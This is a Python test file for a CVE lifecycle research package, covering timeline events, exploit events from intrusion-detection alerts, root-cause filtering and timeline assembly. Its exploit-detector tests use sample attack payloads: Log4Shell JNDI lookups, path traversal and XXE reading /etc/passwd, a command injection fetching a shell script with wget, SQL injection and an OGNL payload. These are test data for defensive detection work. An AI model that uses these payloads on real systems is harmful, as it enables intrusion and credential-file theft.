"""Tests for the lifecycle layer: events, exploit events, RCA, assembly."""

from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.datasets.loader import build_bundle
from repro.datasets.sources import default_plan
from repro.datasets.seed_cves import seed_by_id
from repro.lifecycle.assembly import assemble_timelines
from repro.lifecycle.events import A, CveTimeline, D, F, LifecycleEvent, P, V, X
from repro.lifecycle.exploit_events import EventTable, ExploitEvent
from repro.lifecycle.rca import RcaDecision, RootCauseAnalysis, looks_like_exploit
from repro.net.pcapstore import SessionStore
from repro.net.session import TcpSession
from repro.nids.ruleset import Alert
from repro.util.timeutil import utc

T0 = utc(2022, 1, 1)


def _alert(sid=1, cve="CVE-2021-0001", when=T0, rule_when=None, session_id=0):
    return Alert(
        session_id=session_id,
        timestamp=when,
        sid=sid,
        cve_id=cve,
        rule_published=rule_when or (T0 - timedelta(days=30)),
        dst_ip=2,
        dst_port=80,
        src_ip=1,
    )


class TestLifecycleEvents:
    def test_from_letter(self):
        assert LifecycleEvent.from_letter("A") is A
        with pytest.raises(ValueError):
            LifecycleEvent.from_letter("Z")

    def test_timeline_delta_and_precedes(self):
        timeline = CveTimeline(cve_id="CVE-X")
        timeline.set(P, T0)
        timeline.set(A, T0 + timedelta(days=3))
        assert timeline.delta(A, P) == timedelta(days=3)
        assert timeline.precedes(P, A) is True
        assert timeline.precedes(A, P) is False
        assert timeline.precedes(P, X) is None
        assert timeline.delta(X, P) is None

    def test_has_and_known_events(self):
        timeline = CveTimeline(cve_id="CVE-X")
        timeline.set(P, T0)
        timeline.set(F, None)
        assert timeline.has(P)
        assert not timeline.has(P, F)
        assert timeline.known_events() == (P,)

    def test_ordering_sorted_by_time(self):
        timeline = CveTimeline(cve_id="CVE-X")
        timeline.set(A, T0 + timedelta(days=2))
        timeline.set(P, T0)
        timeline.set(F, T0 + timedelta(days=1))
        assert timeline.ordering() == (P, F, A)


class TestExploitEvents:
    def test_events_from_alerts_skips_no_cve(self):
        alerts = [_alert(), _alert(cve=None, sid=2)]
        events = EventTable.from_alerts(alerts)
        assert len(events) == 1

    def test_mitigated_flag_from_rule_publication(self):
        pre = _alert(when=T0, rule_when=T0 + timedelta(days=5))
        post = _alert(when=T0, rule_when=T0 - timedelta(days=5))
        events = EventTable.from_alerts([pre, post])
        assert events[0].unmitigated
        assert events[1].mitigated

    def test_grouping_sorted(self):
        alerts = [
            _alert(when=T0 + timedelta(days=2), session_id=1),
            _alert(when=T0, session_id=2),
            _alert(cve="CVE-2021-0002", sid=2, session_id=3),
        ]
        grouped = EventTable.from_alerts(alerts).by_cve()
        assert set(grouped) == {"CVE-2021-0001", "CVE-2021-0002"}
        times = [e.timestamp for e in grouped["CVE-2021-0001"]]
        assert times == sorted(times)

    def test_first_attacks(self):
        alerts = [
            _alert(when=T0 + timedelta(days=2)),
            _alert(when=T0),
        ]
        firsts = EventTable.from_alerts(alerts).first_attacks()
        assert firsts["CVE-2021-0001"] == T0


class TestLooksLikeExploit:
    @pytest.mark.parametrize("payload", [
        b"GET /?x=${jndi:ldap://1.2.3.4/a} HTTP/1.1\r\n\r\n",
        b"GET /cgi-bin/../../etc/passwd HTTP/1.1\r\n\r\n",
        b"POST /x HTTP/1.1\r\n\r\nhost=`wget http://x/sh`",
        b"POST /x HTTP/1.1\r\n\r\n<?xml?><!ENTITY e SYSTEM 'file:///etc/passwd'>",
        b"GET /login?user=a%27%20OR%201%3D1 HTTP/1.1\r\n\r\n",
        b"\x00" * 80 + b"A" * 64,
    ])
    def test_exploit_structures_detected(self, payload):
        assert looks_like_exploit(payload)

    @pytest.mark.parametrize("payload", [
        b"",
        b"POST /login.cgi HTTP/1.1\r\n\r\nusername=admin&password=123456",
        b"GET /manager/html HTTP/1.1\r\nAuthorization: Basic dG9tY2F0\r\n\r\n",
        b"GET / HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n",
    ])
    def test_benign_traffic_passes(self, payload):
        assert not looks_like_exploit(payload)

    @settings(max_examples=300, deadline=None)
    @given(st.lists(
        st.sampled_from([b"\x00", b"\x09", b"\x0a", b"\x0d", b"\x1f", b"a", b"~"])
        | st.binary(max_size=8),
        max_size=40,
    ).map(b"".join))
    def test_equals_the_per_byte_count(self, payload):
        assert looks_like_exploit(payload) == _looks_like_exploit_per_byte(payload)


def _looks_like_exploit_per_byte(payload: bytes) -> bool:
    """:func:`looks_like_exploit` as it counted unprintable bytes one by
    one, frozen as the reference for the ``bytes.translate`` count."""
    from repro.lifecycle.rca import _EXPLOIT_MARKERS

    if not payload:
        return False
    lowered = payload.lower()
    if any(marker in lowered for marker in _EXPLOIT_MARKERS):
        return True
    if len(payload) >= 64:
        unprintable = sum(
            1 for byte in payload
            if byte < 0x20 and byte not in (0x09, 0x0A, 0x0D)
        )
        if unprintable / len(payload) > 0.15:
            return True
        if b"AAAAAAAAAAAAAAAA" in payload:
            return True
    return False


class TestRootCauseAnalysis:
    def _store_with(self, payloads):
        store = SessionStore()
        for index, payload in enumerate(payloads):
            store.append(
                TcpSession(
                    session_id=index, start=T0 + timedelta(minutes=index),
                    src_ip=1, src_port=1, dst_ip=2, dst_port=80, payload=payload,
                )
            )
        return store

    def test_drops_cve_with_benign_prepub_matches(self):
        store = self._store_with(
            [b"POST /login.cgi HTTP/1.1\r\n\r\nusername=a&password=b"] * 5
        )
        rca = RootCauseAnalysis(store)
        events = [
            ExploitEvent(
                cve_id="CVE-2021-9999", timestamp=T0, sid=1, session_id=i,
                src_ip=1, dst_ip=2, dst_port=80, mitigated=False,
            )
            for i in range(5)
        ]
        decision = rca.analyse_cve("CVE-2021-9999", events)
        assert not decision.kept
        assert decision.exploit_fraction == 0.0

    def test_keeps_cve_with_exploit_structured_prepub_traffic(self):
        store = self._store_with(
            [b"GET /%24%7B%28%23x%3D%40java%29%7D/ HTTP/1.1\r\n\r\n"] * 5
        )
        rca = RootCauseAnalysis(store)
        events = [
            ExploitEvent(
                cve_id="CVE-2022-0001", timestamp=T0, sid=1, session_id=i,
                src_ip=1, dst_ip=2, dst_port=80, mitigated=False,
            )
            for i in range(5)
        ]
        assert rca.analyse_cve("CVE-2022-0001", events).kept

    def test_keeps_cve_without_prepub_matches(self):
        store = self._store_with([b"anything"])
        rca = RootCauseAnalysis(store)
        events = [
            ExploitEvent(
                cve_id="CVE-2022-0002", timestamp=T0, sid=1, session_id=0,
                src_ip=1, dst_ip=2, dst_port=80, mitigated=True,
            )
        ]
        decision = rca.analyse_cve("CVE-2022-0002", events)
        assert decision.kept
        assert decision.reason == "no pre-publication matches"

    def test_filter_partitions(self):
        store = self._store_with(
            [b"username=admin&password=1", b"GET /x?q=${jndi:ldap://h/a} HTTP/1.1\r\n\r\n"]
        )
        rca = RootCauseAnalysis(store)
        grouped = {
            "CVE-FAKE-1": [
                ExploitEvent(
                    cve_id="CVE-FAKE-1", timestamp=T0, sid=1, session_id=0,
                    src_ip=1, dst_ip=2, dst_port=80, mitigated=False,
                )
            ],
            "CVE-REAL-1": [
                ExploitEvent(
                    cve_id="CVE-REAL-1", timestamp=T0, sid=2, session_id=1,
                    src_ip=1, dst_ip=2, dst_port=80, mitigated=False,
                )
            ],
        }
        kept, decisions = rca.filter(grouped)
        assert set(kept) == {"CVE-REAL-1"}
        assert len(decisions) == 2

    def test_threshold_validation(self):
        with pytest.raises(ValueError):
            RootCauseAnalysis(SessionStore(), exploit_threshold=0.0)


class TestAssembly:
    @pytest.fixture(scope="class")
    def timelines(self):
        bundle = build_bundle(default_plan(background_count=100))
        return assemble_timelines(bundle)

    def test_every_studied_cve_has_timeline(self, timelines):
        assert len(timelines) == 64

    def test_p_matches_seed(self, timelines):
        seed = seed_by_id("CVE-2021-44228")
        assert timelines[seed.cve_id].time(P) == seed.published

    def test_f_equals_d_without_delay(self, timelines):
        timeline = timelines["CVE-2021-44228"]
        assert timeline.time(F) == timeline.time(D)

    def test_missing_rule_leaves_f_none(self, timelines):
        timeline = timelines["CVE-2022-44877"]
        assert timeline.time(F) is None
        assert timeline.time(D) is None

    def test_vendor_awareness_is_min(self, timelines):
        # Talos-disclosed CVE: V comes from the vendor report, well before
        # both rule publication and CVE publication.
        timeline = timelines["CVE-2021-21799"]
        seed = seed_by_id("CVE-2021-21799")
        assert timeline.time(V) < seed.fix_available < seed.published

    def test_vendor_awareness_defaults_to_p_or_f(self, timelines):
        timeline = timelines["CVE-2021-44228"]
        seed = seed_by_id("CVE-2021-44228")
        assert timeline.time(V) == min(seed.published, seed.fix_available)

    def test_observed_first_attacks_override_seed(self):
        bundle = build_bundle(default_plan(background_count=100))
        observed = {"CVE-2021-44228": utc(2021, 12, 25)}
        timelines = assemble_timelines(bundle, observed)
        assert timelines["CVE-2021-44228"].time(A) == utc(2021, 12, 25)
        assert timelines["CVE-2021-41773"].time(A) is None

    def test_seed_fallback_when_map_omitted(self, timelines):
        seed = seed_by_id("CVE-2021-41773")
        assert timelines[seed.cve_id].time(A) == seed.first_attack

    def test_rule_delay_shifts_d_not_f(self):
        bundle = build_bundle(default_plan(background_count=100, rule_delay_days=30))
        timelines = assemble_timelines(bundle)
        timeline = timelines["CVE-2021-44228"]
        assert timeline.time(D) - timeline.time(F) == timedelta(days=30)
